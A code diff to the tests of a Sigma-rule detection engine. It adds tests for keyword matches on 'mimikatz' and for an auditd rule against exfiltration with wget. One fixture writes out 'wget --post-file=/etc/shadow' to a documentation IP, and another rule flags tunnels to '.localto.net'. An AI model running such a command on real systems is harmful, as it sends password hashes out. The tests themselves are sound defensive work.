@@ -84,11 +84,6 @@ def test_event_count_and_value_count_correlations() -> None:
     ("name", "message"),
     [
         (
-            "unsupported_keyword.yml",
-            "Sigma rule 'Keyword Search' (3c4d5e6f-0000-4000-8000-000000000001): "
-            "cannot map a keyword (field-less) search",
-        ),
-        (
             "unsupported_field.yml",
             "Sigma rule 'Parent Image Check' (3c4d5e6f-0000-4000-8000-000000000002): "
             "cannot map the field 'ParentImage'",
@@ -104,3 +99,65 @@ def test_what_cannot_be_mapped_is_refused_by_name(name: str, message: str) -> No
 def test_an_extra_field_mapping_makes_it_importable() -> None:
     _, imported = _engine("unsupported_field.yml", ParentImage="attributes.parent_image")
     assert "attributes.parent_image" in str(imported[0]["condition"])
+
+
+def test_a_keyword_search_looks_through_the_events_text() -> None:
+    engine, imported = _engine("unsupported_keyword.yml")
+    assert "text" in str(imported[0]["condition"])
+    run = {"category": "process", "action": "exec", "object": "/tmp/m"}
+    assert _ids(engine, [{**run, "actor": {"cmdline": "./MIMIKATZ.bin --dump"}}])
+    assert _ids(engine, [{**run, "attributes": {"note": "saw mimikatz"}}])
+    assert _ids(engine, [{**run, "actor": {"cmdline": "make test"}}]) == []
+
+
+AUDITD_RULE = """
+title: Data Exfiltration with Wget
+id: 3c4d5e6f-0000-4000-8000-000000000010
+status: test
+logsource: {product: linux, service: auditd}
+detection:
+  selection:
+    type: EXECVE
+    a0: wget
+    a1|startswith: '--post-file='
+  condition: selection
+level: medium
+"""
+
+
+def _auditd(argv: list[str]) -> list[dict[str, object]]:
+    from pipeline.collect.sources.auditd import AuditdParser
+    from tests.collect.sources.test_rules_by_source import as_auditd, exec_, parsed
+
+    activity = exec_(*argv, exe=f"/usr/bin/{argv[0]}")
+    return parsed(AuditdParser(tenant="acme", sandbox_id="sb-1"), as_auditd(activity))
+
+
+def test_an_auditd_rule_reads_the_records_the_auditd_source_joined() -> None:
+    imported = import_sigma(AUDITD_RULE)
+    ruleset = parse_rules_text(yaml.safe_dump({"rules": imported}))
+    engine = DetectionEngine(ruleset, suppress_ms=0)
+    stolen = _auditd(["wget", "--post-file=/etc/shadow", "http://203.0.113.9/"])
+    assert stolen[0]["attributes"]["auditd.execve.a0"] == "wget"
+    assert [a.rule_id for a in engine.process(stolen)] == [imported[0]["id"]]
+    assert engine.process(_auditd(["wget", "https://pypi.org/simple/"])) == []
+    # The same command line from another source has no audit records: not this rule's.
+    jsonl = {"category": "process", "action": "exec", "object": "/usr/bin/wget",
+             "actor": {"cmdline": "wget --post-file=/etc/shadow http://203.0.113.9/"}}  # fmt: skip
+    assert engine.process([example_event(jsonl, 0)]) == []
+
+
+def test_initiated_means_this_host_opened_the_connection() -> None:
+    rule = AUDITD_RULE.replace("service: auditd", "category: network_connection").replace(
+        """    type: EXECVE
+    a0: wget
+    a1|startswith: '--post-file='""",
+        """    DestinationHostname|endswith: .localto.net
+    Initiated: 'true'""",
+    )
+    imported = import_sigma(rule)
+    ruleset = parse_rules_text(yaml.safe_dump({"rules": imported}))
+    out = {"category": "network", "action": "connect", "object": "a.localto.net:443"}
+    inbound = {**out, "attributes": {"direction": "inbound"}}
+    assert _ids(DetectionEngine(ruleset, suppress_ms=0), [out]) == [imported[0]["id"]]
+    assert _ids(DetectionEngine(ruleset, suppress_ms=0), [inbound]) == []
